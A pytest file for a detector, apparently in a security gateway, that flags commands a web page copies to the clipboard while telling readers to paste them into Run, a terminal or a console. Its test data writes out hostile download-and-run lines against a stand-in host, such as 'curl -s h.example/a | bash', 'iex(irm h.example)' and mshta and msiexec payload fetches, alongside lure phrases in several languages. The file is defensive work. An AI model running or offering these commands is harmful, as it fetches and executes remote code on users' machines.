"""Command lines that a page puts on the clipboard."""

from __future__ import annotations

import pytest

from gateway.extract.page.copied import unshown


@pytest.mark.parametrize("copied", [
    "powershell -w h -c iwr h.example/a", "C:\\Windows\\System32\\cmd.exe /c calc", "mshta https://h.example/a", "conhost --headless cmd /c calc",
    "wscript \\\\h.example\\s\\a.js", "\\\\h.example\\s\\a.exe", "curl -s h.example/a | bash", "bash -c 'id'", "sudo sh -c id", "%windir%\\explorer.exe x",
    "$a='x'; iex $a", "[Net.WebClient]::new()", "for /f %i in ('curl h.example') do %i",
    "SyncAppvPublishingServer.vbs \"n;iex(irm h.example)\"", "%appdata%\\x.exe /s", "javascript:x()", "cmd /c start mshta h.example", "  msiexec /q /i https://h.example/a.msi", "iex(irm h.example)",
])
def test_commands(copied):
    assert unshown(copied, "Press Windows + R") and not unshown(copied, f"Type: {copied}\nand press Enter")


@pytest.mark.parametrize("copied", ["", "1234", "DE02 1203 0000 0000 2020 51", "https://h.example/page", "Dear all, we open at nine", "Bob Smith <b@h.example>",
                                    "pip install requests", "SELECT a FROM b", "C:\\Users\\bob\\report.pdf", "Notes on powershells", "report.js", "set of keys",
                                    "for all of us"])
def test_other_texts(copied):
    assert not unshown(copied, "Copy")


@pytest.mark.parametrize("told", ["Press Windows Button + R, then CTRL + V and Enter", "Open Terminal and paste", "按 Win+R，貼上後按 Enter",
                                  "Open File Explorer and paste the path into the address bar", "Press F12, choose Console and paste", "윈도우 키 + R 을 누르고 Ctrl + V", "Windowsキー＋Rを押し、貼り付けて"])
def test_anything_unseen_that_readers_are_told_to_paste_where_commands_run(told):
    assert unshown("dir & calc", "Verify you are human", told)
    assert not unshown("ipconfig /all", "Press Windows + R, paste ipconfig /all", told)


@pytest.mark.parametrize("told", ["Press Ctrl+V to paste it into your letter", "Our terminals are open all day", ""])
def test_other_things_to_paste(told):
    assert not unshown("COUPON-2231", "Copy", told)
